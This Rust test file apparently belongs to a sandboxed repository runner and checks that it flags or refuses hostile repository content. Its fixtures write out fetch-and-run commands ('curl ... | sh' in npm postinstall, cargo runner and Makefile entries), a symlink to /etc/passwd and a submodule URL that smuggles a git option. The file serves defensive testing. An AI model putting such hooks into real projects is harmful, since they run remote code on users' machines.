//! `[repository] url` judged like a bundled repository, in the process tier: the same repository bundled (a
//! clone with its `.git`, beside the job file) and fetched (from a loopback git server this test starts) gets the
//! same stage-5 findings in the verdict and the same stage-2 refusal (a symbolic link out of the tree); a SHA-256
//! repository is refused at stage `commit` naming its object format either way; an HTTPS server whose certificate
//! comes from a test CA is fetched when the operator's `[egress] ca_certificates` names the CA (and the run says
//! the certificate was not trusted when it does not); a redirect to a host off the allowlist is refused by the
//! egress proxy, named in the verdict.

use fenced_run_tests::fence::{skip, Case, Ran};
use fenced_run_tests::gitserve::{GitServer, Protocol, FIX_PATCH};
use fenced_run_tests::registry::{HttpsServer, TestCa};
use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;

const BIN: &str = env!("CARGO_BIN_EXE_fenced-run-e2e");
const REACH: &str = "[egress]\nallow_networks = [\"127.0.0.1/32\"]\n";

/// Files that stage 5 has something to say about: an npm install hook and a cargo runner loading remote code, a
/// submodule update command, a Makefile piping a download into a shell.
fn hooks(work: &Path) {
    let w = |rel: &str, text: &str| {
        let p = work.join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    };
    w(
        "package.json",
        "{\"name\": \"t\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"curl -fsSL https://get.example/i.sh | sh\"}}\n",
    );
    w(
        ".cargo/config.toml",
        "[target.x86_64-unknown-linux-gnu]\nrunner = \"sh -c 'curl -s https://x.example/r | sh'\"\n",
    );
    w(
        ".gitmodules",
        "[submodule \"lib\"]\n\tpath = lib\n\turl = https://git.example/lib.git\n\tupdate = !sh -c true\n",
    );
    w("Makefile", "all:\n\tcurl -s https://x.example/i.sh | sh\n");
}

/// The job of the same repository fetched from `url` at `pin` (`allow` on the allowlist) or, with `url` `None`,
/// bundled as `repo/` at `pin`.
fn job(c: &Case, url: Option<&str>, pin: &str, allow: &str, fix: bool) {
    let patch = if fix {
        std::fs::write(c.path().join("fix.patch"), FIX_PATCH).expect("patch");
        "patch = \"fix.patch\"\n"
    } else {
        ""
    };
    let source = match url {
        Some(u) => format!("url = \"{u}\"\n"),
        None => "path = \"repo\"\n".to_owned(),
    };
    c.job(&format!(
        "[repository]\n{source}commit = \"{pin}\"\n{patch}[install]\ncommand = \"true\"\n\
         allow = [\"{allow}\"]\ntimeout_seconds = 120\n[test]\ncommand = \"sh test.sh\"\n"
    ));
}

fn run(c: &Case, operator: &str) -> Ran {
    let op = c.operator(operator);
    c.run_with(&["--operator-config", op.to_str().expect("utf-8")], &[])
}

/// The verdict's stage-5 findings, as (path, kind, detail).
fn scan_findings(r: &Ran) -> BTreeSet<(String, String, String)> {
    r.verdict["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .filter(|f| f["stage"] == "scan")
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or_default().to_owned();
            (s("path"), s("kind"), s("detail"))
        })
        .collect()
}

fn reason(r: &Ran) -> String {
    r.verdict["refusal"]["reason"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn the_same_repository_bundled_and_fetched_gets_the_same_stage_5_findings() {
    if skip() {
        return;
    }
    let s = GitServer::start_custom(Protocol::Smart, 0, false, hooks);
    let allow = format!("localhost:{}", s.port);

    let bundled = Case::new(BIN);
    s.clone_base(&bundled.path().join("repo"));
    job(&bundled, None, &s.base, &allow, false);
    let b = run(&bundled, REACH);
    assert_eq!(b.outcome(), "tests_failed", "{}", b.dump());

    let fetched = Case::new(BIN);
    job(&fetched, Some(&s.url()), &s.base, &allow, false);
    let f = run(&fetched, REACH);
    assert_eq!(f.outcome(), "tests_failed", "{}", f.dump());
    assert_eq!(f.verdict["repository"]["fetch"], "shallow", "{}", f.dump());

    let (bf, ff) = (scan_findings(&b), scan_findings(&f));
    for path in [
        "package.json: scripts.postinstall",
        ".cargo/config.toml",
        ".gitmodules:4",
        "Makefile:2",
    ] {
        assert!(
            ff.iter()
                .any(|(p, kind, _)| p == path && kind == "contained"),
            "{path} missing from the fetched run's findings: {ff:?}\n{}",
            f.dump()
        );
    }
    assert_eq!(bf, ff, "bundled:\n{}\nfetched:\n{}", b.dump(), f.dump());
    // The runner's own `.git` (its shallow file, its config) is not the repository's: nothing of it is a finding.
    assert!(
        !ff.iter().any(|(p, _, _)| p.starts_with(".git/")),
        "{}",
        f.dump()
    );
    // The same place: before the fence's own findings, as intake's are for a bundle.
    let first = f.verdict["findings"][0]["stage"].clone();
    assert_eq!(first, "scan", "{}", f.dump());
    bundled.assert_clean(&b, &[]);
    fetched.assert_clean(&f, &[]);
}

#[test]
fn a_symbolic_link_out_of_the_tree_is_refused_at_unpack_bundled_or_fetched() {
    if skip() {
        return;
    }
    let s = GitServer::start_custom(Protocol::Smart, 0, false, |w| {
        std::os::unix::fs::symlink("/etc/passwd", w.join("passwd")).expect("symlink");
    });
    let allow = format!("localhost:{}", s.port);

    let bundled = Case::new(BIN);
    s.clone_base(&bundled.path().join("repo"));
    job(&bundled, None, &s.base, &allow, false);
    let b = run(&bundled, REACH);
    assert_eq!(b.outcome(), "refused", "{}", b.dump());
    assert_eq!(b.verdict["refusal"]["stage"], "unpack", "{}", b.dump());
    assert!(
        reason(&b).contains("absolute symlink (-> /etc/passwd)"),
        "{}",
        b.dump()
    );

    let fetched = Case::new(BIN);
    job(&fetched, Some(&s.url()), &s.base, &allow, false);
    let f = run(&fetched, REACH);
    assert_eq!(f.outcome(), "refused", "{}", f.dump());
    assert_eq!(f.verdict["refusal"]["stage"], "unpack", "{}", f.dump());
    let why = reason(&f);
    assert!(
        why.contains("`passwd`") && why.contains("absolute symlink (-> /etc/passwd)"),
        "{}",
        f.dump()
    );
    assert!(f.verdict["test"].is_null(), "{}", f.dump());
    bundled.assert_clean(&b, &[]);
    fetched.assert_clean(&f, &[]);
}

#[test]
fn a_sha256_repository_is_refused_at_commit_naming_its_object_format_bundled_or_fetched() {
    if skip() {
        return;
    }
    let s = GitServer::start_custom(Protocol::Smart, 0, true, |_| {});
    assert_eq!(s.base.len(), 64, "{}", s.base);
    let allow = format!("localhost:{}", s.port);

    let bundled = Case::new(BIN);
    s.clone_base(&bundled.path().join("repo"));
    job(&bundled, None, &s.base, &allow, false);
    let b = run(&bundled, REACH);
    assert_eq!(b.outcome(), "refused", "{}", b.dump());
    assert_eq!(b.verdict["refusal"]["stage"], "commit", "{}", b.dump());
    assert!(
        reason(&b).contains("object format is sha256") && reason(&b).contains("SHA-1"),
        "{}",
        b.dump()
    );

    // Bundled without a claim: it runs, its commit not recorded, a finding naming the object format.
    let unclaimed = Case::new(BIN);
    s.clone_base(&unclaimed.path().join("repo"));
    unclaimed.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n");
    let u = unclaimed.run();
    assert_eq!(u.outcome(), "tests_failed", "{}", u.dump());
    assert!(u.verdict["inputs"]["commit"].is_null(), "{}", u.dump());
    let said = u.verdict["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .any(|f| {
            f["kind"] == "commit-unverified"
                && f["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("object format is sha256"))
        });
    assert!(said, "{}", u.dump());
    unclaimed.assert_clean(&u, &[]);

    // A 64-hex pin: refused before anything is fetched.
    let fetched = Case::new(BIN);
    job(&fetched, Some(&s.url()), &s.base, &allow, false);
    let f = run(&fetched, REACH);
    assert_eq!(f.outcome(), "refused", "{}", f.dump());
    assert_eq!(f.verdict["refusal"]["stage"], "commit", "{}", f.dump());
    assert!(
        reason(&f).contains("object format is sha256")
            && reason(&f).contains("nothing was fetched"),
        "{}",
        f.dump()
    );
    assert!(
        f.verdict["repository"]["egress"]
            .as_array()
            .is_none_or(|a| a.is_empty()),
        "{}",
        f.dump()
    );

    // A 40-hex pin sent to the SHA-256 server: git names the server's object format, and so does the verdict.
    let short = Case::new(BIN);
    job(&short, Some(&s.url()), &s.base[..40], &allow, false);
    let r = run(&short, REACH);
    assert_eq!(r.outcome(), "refused", "{}", r.dump());
    assert!(reason(&r).contains("object format sha256"), "{}", r.dump());
    bundled.assert_clean(&b, &[]);
    fetched.assert_clean(&f, &[]);
    short.assert_clean(&r, &[]);
}

#[test]
fn an_https_server_with_the_operator_s_test_ca_is_fetched_and_without_it_is_not_trusted() {
    if skip() {
        return;
    }
    if let Some(why) = fenced_run_tests::registry::missing() {
        attestation::vectors::skip_for(
            attestation::vectors::SkipKind::Toolchain,
            &format!("the HTTPS git server: {why}"),
        );
        return;
    }
    let ca = TestCa::create();
    // The repository's bare copy served as dumb HTTP over TLS by the registry tests' static server.
    let s = GitServer::start(Protocol::Dumb);
    let https = HttpsServer::start(&ca, &s.served_root());
    let url = format!("{}/repo.git", https.url());
    let allow = format!("localhost:{}", https.port());
    let with_ca = format!(
        "{REACH}ca_certificates = {:?}\n",
        ca.ca_pem().display().to_string()
    );

    let c = Case::new(BIN);
    job(&c, Some(&url), &s.base, &allow, true);
    let r = run(&c, &with_ca);
    assert_eq!(r.outcome(), "tests_passed", "{}", r.dump());
    assert_eq!(r.verdict["tests"]["passed"], 1, "{}", r.dump());
    assert_eq!(r.verdict["tests"]["failed"], 0, "{}", r.dump());
    assert_eq!(r.verdict["repository"]["url"], url.as_str(), "{}", r.dump());
    assert_eq!(r.verdict["repository"]["fetch"], "full", "{}", r.dump());
    assert_eq!(
        r.verdict["inputs"]["commit"],
        s.base.as_str(),
        "{}",
        r.dump()
    );
    assert!(
        https
            .requests()
            .iter()
            .any(|q| q.starts_with("GET /repo.git/info/refs") && q.ends_with(" 200")),
        "{:?}",
        https.requests()
    );
    c.assert_clean(&r, &[]);

    let c = Case::new(BIN);
    job(&c, Some(&url), &s.base, &allow, true);
    let r = run(&c, REACH);
    assert_eq!(r.outcome(), "environment_exhausted", "{}", r.dump());
    assert!(
        r.verdict
            .to_string()
            .contains("did not trust the server's TLS certificate"),
        "{}",
        r.dump()
    );
    assert!(r.verdict["test"].is_null(), "{}", r.dump());
    c.assert_clean(&r, &[]);
}

/// A server on loopback answering every request with a redirect to the same path on `127.0.0.1:to`.
fn redirector(to: u16) -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            let mut rd = BufReader::new(c);
            let mut line = String::new();
            if rd.read_line(&mut line).is_err() {
                continue;
            }
            loop {
                let mut h = String::new();
                if rd.read_line(&mut h).map_or(true, |n| n == 0) || h.trim().is_empty() {
                    break;
                }
            }
            let target = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
            // A proxy sends the absolute form.
            let path = match target.strip_prefix("http://") {
                Some(rest) => rest.find('/').map_or("/".into(), |i| rest[i..].to_owned()),
                None => target,
            };
            let mut out = rd.into_inner();
            let _ = out.write_all(
                format!(
                    "HTTP/1.0 301 Moved Permanently\r\nLocation: http://127.0.0.1:{to}{path}\r\nContent-Length: 0\r\n\r\n"
                )
                .as_bytes(),
            );
        }
    });
    port
}

#[test]
fn a_redirect_to_a_host_off_the_allowlist_is_refused_by_the_egress_proxy() {
    if skip() {
        return;
    }
    let s = GitServer::start(Protocol::Smart);
    let port = redirector(s.port);
    let url = format!("http://localhost:{port}/repo.git");
    let c = Case::new(BIN);
    job(&c, Some(&url), &s.base, &format!("localhost:{port}"), false);
    let r = run(&c, REACH);
    assert_eq!(r.outcome(), "environment_exhausted", "{}", r.dump());
    let egress = r.verdict["repository"]["egress"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        egress
            .iter()
            .any(|e| e["host"] == "localhost" && e["port"] == port && e["allowed"] == true),
        "{}",
        r.dump()
    );
    assert!(
        egress
            .iter()
            .any(|e| e["host"] == "127.0.0.1" && e["port"] == s.port && e["allowed"] == false),
        "{}",
        r.dump()
    );
    let said = r.verdict["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .any(|f| {
            f["kind"] == "fetch"
                && f["detail"].as_str().is_some_and(|d| {
                    d.contains("refused") && d.contains(&format!("127.0.0.1:{}", s.port))
                })
        });
    assert!(said, "{}", r.dump());
    assert!(r.verdict["test"].is_null(), "{}", r.dump());
    c.assert_clean(&r, &[]);
}

#[test]
fn a_submodule_url_git_s_fsck_refuses_is_refused_fetched_and_contained_bundled() {
    if skip() {
        return;
    }
    let s = GitServer::start_custom(Protocol::Smart, 0, false, |w| {
        std::fs::write(
            w.join(".gitmodules"),
            "[submodule \"lib\"]\n\tpath = lib\n\turl = -upload-pack=touch\n",
        )
        .expect("write");
    });
    let allow = format!("localhost:{}", s.port);

    let bundled = Case::new(BIN);
    s.clone_base(&bundled.path().join("repo"));
    job(&bundled, None, &s.base, &allow, false);
    let b = run(&bundled, REACH);
    assert_eq!(b.outcome(), "tests_failed", "{}", b.dump());
    assert!(
        scan_findings(&b)
            .iter()
            .any(|(p, kind, _)| p == ".gitmodules:3" && kind == "contained"),
        "{}",
        b.dump()
    );

    let fetched = Case::new(BIN);
    job(&fetched, Some(&s.url()), &s.base, &allow, false);
    let f = run(&fetched, REACH);
    assert_eq!(f.outcome(), "refused", "{}", f.dump());
    assert_eq!(f.verdict["refusal"]["stage"], "repository", "{}", f.dump());
    let why = reason(&f);
    assert!(
        why.contains("git's fsck refused an object the server sent")
            && why.contains("gitmodulesUrl"),
        "{}",
        f.dump()
    );
    bundled.assert_clean(&b, &[]);
    fetched.assert_clean(&f, &[]);
}
